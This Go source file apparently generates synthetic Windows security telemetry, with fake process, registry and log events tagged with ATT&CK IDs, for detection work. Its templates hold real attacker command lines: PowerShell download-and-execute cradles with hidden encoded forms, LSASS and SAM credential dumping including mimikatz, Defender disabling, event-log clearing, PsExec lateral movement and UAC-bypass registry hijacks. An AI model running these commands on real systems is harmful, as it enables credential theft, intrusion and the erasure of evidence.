package gen

import (
	"encoding/base64"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"
)

// Scenarios of execution, persistence, privilege escalation, defense
// evasion, credential access, discovery and lateral movement on hosts.

// encodePS returns a PowerShell -EncodedCommand argument: base64 of UTF-16LE.
func encodePS(script string) string {
	u := utf16.Encode([]rune(script))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

var cradles = []string{
	"IEX (New-Object Net.WebClient).DownloadString('%s')",
	`IEX(New-Object System.Net.WebClient).DownloadString("%s")`,
	"$c=New-Object Net.WebClient;$c.Headers.Add('User-Agent','Mozilla/5.0');IEX $c.DownloadString('%s')",
	"IEX (iwr -UseBasicParsing '%s').Content",
	"[Net.ServicePointManager]::SecurityProtocol='tls12';IEX(New-Object Net.WebClient).DownloadString('%s')",
}

var encodedForms = []string{
	"powershell.exe -nop -w hidden -ep bypass -enc %s",
	"powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand %s",
	`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -noP -sta -w 1 -enc %s`,
	"powershell.exe -e %s",
	"powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -NoProfile -EncodedCommand %s",
}

func buildEncodedPowerShell(b *builder) {
	r, w := b.r, b.w
	h := w.pickWS(r)
	u := h.User
	dl, host, reg, ip := b.downloadURL([]string{".ps1", ".txt", "", ".png"})
	script := strings.Replace(pick(r, cradles), "%s", dl, 1)
	cmdline := strings.Replace(pick(r, encodedForms), "%s", encodePS(script), 1)
	ps := proc{PID: r.winPID(), Exe: pathPowerShell, Cmd: cmdline}
	techs := []string{"T1059.001", "T1027"}
	var parent proc
	switch r.IntN(4) {
	case 0:
		parent = explorerProc(h)
	case 1:
		parent = proc{PID: r.winPID(), Exe: pathCmd,
			Cmd: `C:\Windows\system32\cmd.exe /c "` + userDir(u, `\Downloads\`+pick(r, []string{"invoice", "setup", "update", "scan"})+"_"+strconv.Itoa(r.between(100, 9999))+".bat") + `"`}
		b.add(b.tags("T1059.003")).winProcess(h, u.Name, w.domain, parent, explorerProc(h), "Medium")
		b.wait(100*time.Millisecond, 2*time.Second)
	case 2:
		parent = proc{PID: r.winPID(), Exe: pathWord, Cmd: `"` + pathWord + `" /n "` + userDir(u, `\Downloads\`+b.g.docName()+`.docm`) + `" /o ""`}
		b.add(b.none()).winProcess(h, u.Name, w.domain, parent, explorerProc(h), "Medium")
		techs = append(techs, "T1566.001", "T1204.002") // a macro document started it
		b.wait(5*time.Second, 90*time.Second)
	default:
		parent = proc{PID: r.winPID(), Exe: pathWmiPrvSE, Cmd: `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`}
		techs = append(techs, "T1047")
	}
	b.add(b.tags(techs...)).winProcess(h, u.Name, w.domain, ps, parent, "Medium")
	b.wait(500*time.Millisecond, 3*time.Second)
	b.fetch(h, u, ps, host, reg, ip, schemePort(dl), b.tags("T1105"), int64(r.between(3_000, 300_000)))
}

type discoCmd struct {
	exe, cmd, tech string
}

var discoveryCmds = []discoCmd{
	{`C:\Windows\System32\whoami.exe`, "whoami /all", "T1033"},
	{`C:\Windows\System32\net.exe`, "net user /domain", "T1087.002"},
	{`C:\Windows\System32\net.exe`, `net group "domain admins" /domain`, "T1069.002"},
	{`C:\Windows\System32\systeminfo.exe`, "systeminfo", "T1082"},
	{`C:\Windows\System32\ipconfig.exe`, "ipconfig /all", "T1016"},
	{`C:\Windows\System32\nltest.exe`, "nltest /dclist:corp.local", "T1018"},
	{`C:\Windows\System32\nltest.exe`, "nltest /domain_trusts /all_trusts", "T1482"},
	{`C:\Windows\System32\net.exe`, "net localgroup administrators", "T1069.001"},
	{`C:\Windows\System32\tasklist.exe`, "tasklist /v", "T1057"},
	{`C:\Windows\System32\quser.exe`, "quser", "T1033"},
	{`C:\Windows\System32\ARP.EXE`, "arp -a", "T1018"},
	{`C:\Windows\System32\NETSTAT.EXE`, "netstat -ano", "T1049"},
}

// implant returns the process an intruder works from on h.
func (b *builder) implant(h *machine, u *person) proc {
	r := b.r
	switch r.IntN(3) {
	case 0:
		return proc{PID: r.winPID(), Exe: pathRundll32,
			Cmd: `"C:\Windows\System32\rundll32.exe" ` + userDir(u, `\AppData\Local\Temp\`+r.letters("abcdefghijklmnopqrstuvwxyz", 6)+`.dll`) + `,StartW`}
	case 1:
		return proc{PID: r.winPID(), Exe: pathPowerShell, Cmd: `powershell.exe -nop -w hidden`}
	}
	return explorerProc(h)
}

func buildDiscovery(b *builder) {
	r, w := b.r, b.w
	h, u := w.pickWinActor(r, 0.7)
	shell := proc{PID: r.winPID(), Exe: pathCmd, Cmd: cmdLineCmd}
	// The attacker's shell is command-shell execution whether an implant or
	// an interactive session (explorer) opened it.
	from := b.implant(h, u)
	b.add(b.tags("T1059.003")).winProcess(h, u.Name, w.domain, shell, from, "Medium")
	k := r.between(4, 8)
	span := r.ms(2*time.Minute, 10*time.Minute) - 30_000
	order := r.Perm(len(discoveryCmds))
	for i := 0; i < k; i++ {
		c := discoveryCmds[order[i]]
		b.t = b.start + 1000 + span*int64(i)/int64(k) + r.Int64N(span/int64(k)/2+1)
		tg := b.tags(c.tech)
		p := proc{PID: r.winPID(), Exe: c.exe, Cmd: c.cmd}
		b.add(tg).winProcess(h, u.Name, w.domain, p, shell, "Medium")
		if strings.HasSuffix(c.exe, `\net.exe`) {
			b.wait(5*time.Millisecond, 30*time.Millisecond)
			n1 := proc{PID: r.winPID(), Exe: `C:\Windows\System32\net1.exe`, Cmd: `C:\Windows\system32\net1 ` + strings.TrimPrefix(c.cmd, "net ")}
			b.add(tg).winProcess(h, u.Name, w.domain, n1, p, "Medium")
		}
	}
}

func buildCredentialDumping(b *builder) {
	r, w := b.r, b.w
	h, u := w.pickWinActor(r, 0.6)
	shell := proc{PID: r.winPID(), Exe: pathCmd, Cmd: cmdLineCmd}
	dir := pick(r, []string{`C:\Users\Public\`, `C:\Windows\Temp\`, `C:\ProgramData\`})
	lsass := b.tags("T1003.001")
	switch r.IntN(4) {
	case 0: // procdump
		exe := pick(r, []string{`C:\Users\Public\procdump64.exe`, `C:\Tools\procdump.exe`, userDir(u, `\Downloads\Procdump\procdump64.exe`)})
		out := dir + pick(r, []string{"lsass.dmp", "lsass_" + strconv.Itoa(r.between(1000, 9999)) + ".dmp", "out.dmp"})
		target := "lsass.exe"
		if r.chance(0.4) {
			target = strconv.Itoa(h.lsassPID)
		}
		p := proc{PID: r.winPID(), Exe: exe, Cmd: baseName(exe) + " -accepteula -ma " + target + " " + out}
		b.add(lsass).winProcess(h, u.Name, w.domain, p, shell, "High")
		b.wait(2*time.Second, 10*time.Second)
		b.add(lsass).file(h, u.Name, w.domain, p, "file-created", out)
	case 1: // comsvcs.dll MiniDump
		out := dir + pick(r, []string{"lsass.dmp", "debug.bin", "mem.dmp"})
		p := proc{PID: r.winPID(), Exe: pathRundll32,
			Cmd: `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump ` + strconv.Itoa(h.lsassPID) + " " + out + " full"}
		b.add(b.tags("T1003.001", "T1218.011")).winProcess(h, u.Name, w.domain, p, shell, "High")
		b.wait(2*time.Second, 8*time.Second)
		b.add(lsass).file(h, u.Name, w.domain, p, "file-created", out)
	case 2: // mimikatz, downloaded first
		exe := dir + pick(r, []string{"mimikatz.exe", "mimikatz.exe", "mk.exe", "svchost32.exe"})
		ps := proc{PID: r.winPID(), Exe: pathPowerShell, Cmd: `powershell.exe -nop -w hidden`}
		b.add(b.tags("T1105")).file(h, u.Name, w.domain, ps, "file-created", exe)
		b.wait(10*time.Second, 2*time.Minute)
		p := proc{PID: r.winPID(), Exe: exe, Orig: "mimikatz.exe", Cmd: baseName(exe) + ` "privilege::debug" "sekurlsa::logonpasswords" exit`}
		logged := r.chance(0.5)
		if logged {
			p.Cmd = baseName(exe) + ` "privilege::debug" "log ` + dir + `mk.log" "sekurlsa::logonpasswords" exit`
		}
		b.add(lsass).winProcess(h, u.Name, w.domain, p, shell, "High")
		if logged {
			b.wait(200*time.Millisecond, 2*time.Second)
			b.add(lsass).file(h, u.Name, w.domain, p, "file-created", dir+"mk.log")
		}
	default: // the SAM and SYSTEM hives
		sam := b.tags("T1003.002")
		hives := []string{"SAM", "SYSTEM"}
		if r.chance(0.5) {
			hives = append(hives, "SECURITY")
		}
		ext := pick(r, []string{".save", ".hiv", ".tmp"})
		for _, hive := range hives {
			out := dir + strings.ToLower(hive) + ext
			p := proc{PID: r.winPID(), Exe: pathReg, Cmd: `reg  save HKLM\` + hive + " " + out}
			if r.chance(0.5) {
				p.Cmd = `reg.exe save hklm\` + strings.ToLower(hive) + " " + out + " /y"
			}
			b.add(sam).winProcess(h, u.Name, w.domain, p, shell, "High")
			b.wait(300*time.Millisecond, 3*time.Second)
			b.add(sam).file(h, u.Name, w.domain, p, "file-created", out)
			b.wait(2*time.Second, 20*time.Second)
		}
	}
}

var taskLookalikes = []string{"MicrosoftEdgeUpdateTaskCore", "OneDriveSync", "WindowsUpdateCheck", "GoogleChromeUpdater",
	"SystemHealthMonitor", "AdobeFlashSync", "Updater", `Microsoft\Windows\Maintenance\WinSAT2`, "UserTelemetryTask"}

// payloadPath returns where an intruder puts a payload: AppData, Temp or ProgramData.
func (b *builder) payloadPath(u *person) string {
	r := b.r
	name := pick(r, []string{"updater", "svchost", "msedge_update", "teams_helper", "OneDriveUpdate", "winlogin", "taskhost"})
	switch r.IntN(4) {
	case 0:
		return userDir(u, `\AppData\Roaming\`+pick(r, []string{"Microsoft", "Adobe", "Intel", "Google"})+`\`+name+".exe")
	case 1:
		return userDir(u, `\AppData\Local\Temp\`+name+".exe")
	case 2:
		return `C:\ProgramData\` + pick(r, []string{"Microsoft", "Oracle", "Package Cache", "Sync"}) + `\` + name + ".exe"
	}
	return userDir(u, `\AppData\Local\`+pick(r, []string{"Microsoft", "Packages", "Programs"})+`\`+name+".exe")
}

func buildScheduledTask(b *builder) {
	r, w := b.r, b.w
	h := w.pickWS(r)
	u := h.User
	payload := b.payloadPath(u)
	dropper := proc{PID: r.winPID(), Exe: pathPowerShell, Cmd: `powershell.exe -nop -w hidden`}
	b.add(b.tags("T1105")).file(h, u.Name, w.domain, dropper, "file-created", payload)
	b.wait(5*time.Second, 60*time.Second)
	name := pick(r, taskLookalikes)
	var sc, trigger string
	switch r.IntN(4) {
	case 0:
		sc, trigger = "onlogon", "logon"
	case 1:
		sc, trigger = "daily /st 09:"+strconv.Itoa(10+r.IntN(50)), "daily"
	case 2:
		sc, trigger = "minute /mo 15", "minute"
	default:
		sc, trigger = "onstart", "boot"
	}
	tr := payload
	var cmd string
	if r.chance(0.5) {
		cmd = `schtasks.exe /create /sc ` + sc + ` /tn "` + name + `" /tr "` + tr + `" /ru SYSTEM /f`
	} else {
		cmd = `schtasks  /create /tn ` + name + ` /tr ` + tr + ` /sc ` + sc + ` /ru "NT AUTHORITY\SYSTEM" /rl HIGHEST /f`
	}
	parent := proc{PID: r.winPID(), Exe: pathCmd, Cmd: cmdLineCmd}
	if r.chance(0.4) {
		parent = dropper
	}
	tg := b.tags("T1053.005")
	b.add(tg).winProcess(h, u.Name, w.domain, proc{PID: r.winPID(), Exe: pathSchtasks, Cmd: cmd}, parent, "High")
	b.wait(50*time.Millisecond, 800*time.Millisecond)
	b.add(tg).task(h, u.Name, w.domain, `\`+name, tr, "", trigger, "S-1-5-18")
}

func buildPsExec(b *builder) {
	r, w := b.r, b.w
	a := w.pickWS(r)
	u := pick(r, w.admins)
	var dst *machine
	for dst == nil || dst == a {
		if r.chance(0.6) {
			dst = w.pickWinServer(r)
		} else {
			dst = w.pickWS(r)
		}
	}
	exe := pick(r, []string{userDir(u, `\Downloads\PSTools\PsExec.exe`), `C:\Tools\PsExec64.exe`, `C:\Windows\Temp\PsExec.exe`})
	target := dst.Name
	if r.chance(0.3) {
		target = dst.IP
	}
	psexec := proc{PID: r.winPID(), Exe: exe, Cmd: baseName(exe) + ` \\` + target + ` -accepteula -s cmd.exe`}
	if r.chance(0.4) {
		psexec.Cmd = `psexec.exe \\` + target + ` -s cmd`
	}
	lm := b.tags("T1021.002")
	both := b.tags("T1021.002", "T1569.002")
	svc := b.tags("T1569.002")
	b.add(both).winProcess(a, u.Name, w.domain, psexec, proc{PID: r.winPID(), Exe: pathCmd, Cmd: cmdLineCmd}, "High")
	b.wait(50*time.Millisecond, 500*time.Millisecond)
	b.add(lm).sysmonConn(a, u.Name, w.domain, psexec, a.IP, r.port(), dst.IP, 445, "tcp")
	b.wait(20*time.Millisecond, 300*time.Millisecond)
	b.add(lm).winLogon(dst, u.Name, w.domain, true, 3, a.IP, r.port(), a.Name)
	b.wait(100*time.Millisecond, 1*time.Second)
	b.add(lm).file(dst, system, ntAuthority, systemProc(), "file-created", `C:\Windows\PSEXESVC.exe`)
	b.wait(100*time.Millisecond, 1*time.Second)
	b.add(both).service(dst, u.Name, w.domain, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "demand start", "LocalSystem")
	b.wait(100*time.Millisecond, 800*time.Millisecond)
	svcProc := proc{PID: r.winPID(), Exe: `C:\Windows\PSEXESVC.exe`, Cmd: `C:\Windows\PSEXESVC.exe`}
	b.add(svc).winProcess(dst, system, ntAuthority, svcProc, servicesProc(dst), "System")
	b.wait(100*time.Millisecond, 1*time.Second)
	shell := proc{PID: r.winPID(), Exe: pathCmd, Cmd: `"cmd.exe" `}
	b.add(both).winProcess(dst, system, ntAuthority, shell, svcProc, "System")
	for i, n := 0, r.between(0, 2); i < n; i++ {
		b.wait(5*time.Second, 60*time.Second)
		p := proc{PID: r.winPID(), Exe: `C:\Windows\System32\whoami.exe`, Cmd: "whoami"}
		if i == 1 {
			p = proc{PID: r.winPID(), Exe: `C:\Windows\System32\HOSTNAME.EXE`, Cmd: "hostname"}
		}
		b.add(b.tags("T1033")).winProcess(dst, system, ntAuthority, p, shell, "System")
	}
}

func buildLogClearing(b *builder) {
	r, w := b.r, b.w
	var h *machine
	if r.chance(0.5) {
		h = w.pickWS(r)
	} else {
		h = w.pickWinServer(r)
	}
	u := pick(r, w.admins)
	shell := proc{PID: r.winPID(), Exe: pathCmd, Cmd: cmdLineCmd}
	if r.chance(0.5) {
		shell = proc{PID: r.winPID(), Exe: pathPowerShell, Cmd: cmdLinePS}
	}
	if r.chance(0.75) {
		cmd := pick(r, []string{
			`powershell.exe -Command Set-MpPreference -DisableRealtimeMonitoring $true`,
			`powershell.exe -nop -c "Set-MpPreference -DisableRealtimeMonitoring $true -DisableIOAVProtection $true"`,
			`powershell  Set-MpPreference -DisableRealtimeMonitoring 1`,
		})
		p := proc{PID: r.winPID(), Exe: pathPowerShell, Cmd: cmd}
		b.add(b.tags("T1562.001", "T1059.001")).winProcess(h, u.Name, w.domain, p, shell, "High")
		b.wait(100*time.Millisecond, 1*time.Second)
		mp := proc{PID: r.winPID(), Exe: pathMsMpEng}
		b.add(b.tags("T1562.001")).registry(h, system, ntAuthority, mp,
			`HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring`, "DWORD (0x00000001)", "REG_DWORD")
		b.wait(20*time.Second, 3*time.Minute)
	}
	clear := b.tags("T1070.001")
	if r.chance(0.6) {
		logs := []string{"Security", "System"}
		if r.chance(0.5) {
			logs = append(logs, "Windows PowerShell")
		}
		if r.chance(0.3) {
			logs = []string{"Security"}
		}
		for _, l := range logs {
			arg := l
			if strings.Contains(l, " ") {
				arg = `"` + l + `"`
			}
			p := proc{PID: r.winPID(), Exe: `C:\Windows\System32\wevtutil.exe`, Cmd: "wevtutil.exe cl " + arg}
			if r.chance(0.5) {
				p.Cmd = "wevtutil  cl " + arg
			}
			b.add(clear).winProcess(h, u.Name, w.domain, p, shell, "High")
			if l != "Windows PowerShell" {
				b.wait(50*time.Millisecond, 500*time.Millisecond)
				b.add(clear).logCleared(h, u.Name, w.domain, l)
			}
			b.wait(1*time.Second, 10*time.Second)
		}
		return
	}
	p := proc{PID: r.winPID(), Exe: pathPowerShell, Cmd: `powershell.exe -Command "Clear-EventLog -LogName Security,System,Application"`}
	b.add(b.tags("T1070.001", "T1059.001")).winProcess(h, u.Name, w.domain, p, shell, "High")
	b.wait(50*time.Millisecond, 500*time.Millisecond)
	b.add(clear).logCleared(h, u.Name, w.domain, "Security")
	b.wait(5*time.Millisecond, 100*time.Millisecond)
	b.add(clear).logCleared(h, u.Name, w.domain, "System")
}

var runKeyNames = []string{"Updater", "OneDriveUpdate", "SecurityHealthUpdate", "MicrosoftEdgeAutoLaunch_%g", "Adobe Updater", "WindowsDefender", "Spotify Helper"}

func buildRunKey(b *builder) {
	r, w := b.r, b.w
	h := w.pickWS(r)
	u := h.User
	payload := b.payloadPath(u)
	for strings.HasPrefix(payload, `C:\ProgramData`) {
		payload = b.payloadPath(u)
	}
	// The payload is brought onto the host (T1105) whichever program writes
	// it: a script, or a browser the user was lured into downloading with.
	dropper := proc{PID: r.winPID(), Exe: pick(r, []string{pathPowerShell, pathChrome})}
	b.add(b.tags("T1105")).file(h, u.Name, w.domain, dropper, "file-created", payload)
	b.wait(5*time.Second, 2*time.Minute)
	name := b.g.expand(pick(r, runKeyNames), u.Name, h)
	persist := b.tags("T1547.001")
	var p proc
	if r.chance(0.7) {
		v := name
		if strings.Contains(v, " ") {
			v = `"` + v + `"`
		}
		p = proc{PID: r.winPID(), Exe: pathReg, Cmd: `reg  add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v ` + v + ` /t REG_SZ /d "` + payload + `" /f`}
		b.add(persist).winProcess(h, u.Name, w.domain, p, proc{PID: r.winPID(), Exe: pathCmd, Cmd: cmdLineCmd}, "Medium")
	} else {
		p = proc{PID: r.winPID(), Exe: pathPowerShell,
			Cmd: `powershell.exe -c "New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name '` + name + `' -Value '` + payload + `' -PropertyType String -Force"`}
		b.add(b.tags("T1547.001", "T1059.001")).winProcess(h, u.Name, w.domain, p, explorerProc(h), "Medium")
	}
	b.wait(20*time.Millisecond, 300*time.Millisecond)
	b.add(persist).registry(h, u.Name, w.domain, p, hkuRun(u, name), payload, "REG_SZ")
}

func buildUACBypass(b *builder) {
	r, w := b.r, b.w
	h := w.pickWS(r)
	u := h.User
	fod := r.chance(0.7)
	class, binary := `ms-settings`, `C:\Windows\System32\fodhelper.exe`
	if !fod {
		class, binary = `mscfile`, `C:\Windows\System32\eventvwr.exe`
		if r.chance(0.5) {
			class, binary = `ms-settings`, `C:\Windows\System32\ComputerDefaults.exe`
		}
	}
	key := `Software\Classes\` + class + `\Shell\Open\command`
	hku := `HKU\` + u.SID + `_Classes\` + class + `\Shell\Open\command`
	payload := b.payloadPath(u)
	if r.chance(0.3) {
		payload = `C:\Windows\System32\cmd.exe /c start ` + payload
	}
	tg := b.tags("T1548.002")
	shell := proc{PID: r.winPID(), Exe: pathCmd, Cmd: cmdLineCmd}
	if r.chance(0.6) {
		if class == "ms-settings" {
			p := proc{PID: r.winPID(), Exe: pathReg, Cmd: `reg  add HKCU\` + key + ` /v DelegateExecute /t REG_SZ /d "" /f`}
			b.add(tg).winProcess(h, u.Name, w.domain, p, shell, "Medium")
			b.wait(20*time.Millisecond, 200*time.Millisecond)
			b.add(tg).registry(h, u.Name, w.domain, p, hku+`\DelegateExecute`, "", "REG_SZ")
			b.wait(200*time.Millisecond, 3*time.Second)
		}
		p := proc{PID: r.winPID(), Exe: pathReg, Cmd: `reg  add HKCU\` + key + ` /ve /t REG_SZ /d "` + payload + `" /f`}
		b.add(tg).winProcess(h, u.Name, w.domain, p, shell, "Medium")
		b.wait(20*time.Millisecond, 200*time.Millisecond)
		b.add(tg).registry(h, u.Name, w.domain, p, hku+`\(Default)`, payload, "REG_SZ")
	} else {
		shell = proc{PID: r.winPID(), Exe: pathPowerShell, Cmd: `powershell.exe -nop -w hidden`}
		script := `New-Item "HKCU:\` + key + `" -Force; `
		if class == "ms-settings" {
			script += `New-ItemProperty -Path "HKCU:\` + key + `" -Name "DelegateExecute" -Value "" -Force; `
		}
		script += `Set-ItemProperty -Path "HKCU:\` + key + `" -Name "(default)" -Value "` + payload + `" -Force; Start-Process "` + binary + `" -WindowStyle Hidden`
		p := proc{PID: r.winPID(), Exe: pathPowerShell, Cmd: `powershell.exe -nop -c "` + strings.ReplaceAll(script, `"`, `\"`) + `"`}
		b.add(tg).winProcess(h, u.Name, w.domain, p, explorerProc(h), "Medium")
		shell = p
		if class == "ms-settings" {
			b.wait(20*time.Millisecond, 200*time.Millisecond)
			b.add(tg).registry(h, u.Name, w.domain, p, hku+`\DelegateExecute`, "", "REG_SZ")
		}
		b.wait(5*time.Millisecond, 100*time.Millisecond)
		b.add(tg).registry(h, u.Name, w.domain, p, hku+`\(Default)`, payload, "REG_SZ")
	}
	b.wait(300*time.Millisecond, 4*time.Second)
	elev := proc{PID: r.winPID(), Exe: binary, Cmd: pick(r, []string{baseName(binary), `"` + binary + `"`, binary})}
	b.add(tg).winProcess(h, u.Name, w.domain, elev, shell, "High")
	b.wait(100*time.Millisecond, 1500*time.Millisecond)
	exe := payload
	if strings.HasPrefix(exe, pathCmd) {
		exe = pathCmd
	}
	b.add(tg).winProcess(h, u.Name, w.domain, proc{PID: r.winPID(), Exe: exe, Cmd: payload}, elev, "High")
	if r.chance(0.6) {
		b.wait(2*time.Second, 20*time.Second)
		p := proc{PID: r.winPID(), Exe: pathReg, Cmd: `reg  delete HKCU\Software\Classes\` + class + ` /f`}
		b.add(tg).winProcess(h, u.Name, w.domain, p, shell, "Medium")
	}
}
